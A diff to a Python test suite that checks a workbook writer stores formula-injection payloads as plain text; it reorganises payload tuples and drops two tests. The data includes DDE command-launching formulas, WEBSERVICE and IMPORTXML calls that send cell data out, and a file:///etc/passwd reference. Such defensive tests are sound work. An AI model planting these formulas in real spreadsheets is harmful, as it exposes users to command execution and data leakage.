@@ -34,45 +34,14 @@ from tests.cases.workbook_example import (
 )
 
 BODIES = (
-    "1+1",
-    "SUM(A1:A9)",
-    'HYPERLINK("http://example.org","clic")',
-    'WEBSERVICE("http://example.org/"&A1)',
-    'IMPORTXML("http://example.org","//a")',
-    "cmd|' /C calc'!A0",
-    'DDE("cmd";"/C calc";"x")',
-    "A1",
-    "Feuille!A1",
-    "'file:///etc/passwd'#$x.A1",
-    "#REF!",
-    "0123",
-    "é",
-    "",
-    "_x000D_1",
+    *("1+1", "SUM(A1:A9)", "A1", "Feuille!A1", "#REF!", "0123", "é", "", "_x000D_1"),
+    *('HYPERLINK("http://example.org","clic")', 'IMPORTXML("http://example.org","//a")'),
+    *('WEBSERVICE("http://example.org/"&A1)', 'DDE("cmd";"/C calc";"x")'),
+    *("cmd|' /C calc'!A0", "'file:///etc/passwd'#$x.A1"),
 )
 STARTS = (
-    "==",
-    "=+",
-    "=-",
-    "-=",
-    "@=",
-    "\u200b=",
-    "\u00a0=",
-    "=",
-    "+",
-    "-",
-    "@",
-    "\t=",
-    "\r=",
-    "\n=",
-    " =",
-    "'=",
-    '"=',
-    "{=",
-    "＝",
-    "＋",
-    "－",
-    "＠",
+    *("==", "=+", "=-", "-=", "@=", "=", "+", "-", "@", "'=", '"=', "{=", "＝", "＋", "－", "＠"),
+    *("\u200b=", "\u00a0=", "\t=", "\r=", "\n=", " ="),
 )
 WHOLE = (
     *("#N/A", "#REF!", "#DIV/0!", "#NAME?", "#NULL!", "#NUM!", "#VALUE!"),
@@ -92,10 +61,6 @@ escape_like_text = st.lists(
     st.sampled_from(["_", "x", "_x", "000d", "0041_", "_x000D_", "é", "\n", " "]),
     max_size=12,
 ).map("".join)
-
-
-def test_there_are_300_payloads():
-    assert len(PAYLOADS) >= 300
 
 
 def test_payloads_in_cells_headers_sentences_and_titles_are_texts(tmp_path):
@@ -119,12 +84,6 @@ def test_payloads_in_cells_headers_sentences_and_titles_are_texts(tmp_path):
     assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
     last = list(book.worksheets[0].iter_rows(values_only=True))[-1]
     assert list(last) == [readable(payload) for payload in PAYLOADS]
-
-
-def test_payloads_in_rows_come_back_from_openpyxl(tmp_path):
-    path = written(tmp_path, sheet_of([(payload,) for payload in PAYLOADS], Kind.TEXT))
-
-    assert column_read(path) == [readable(payload) for payload in PAYLOADS]
 
 
 def test_nothing_links_out_of_the_workbook(tmp_path):
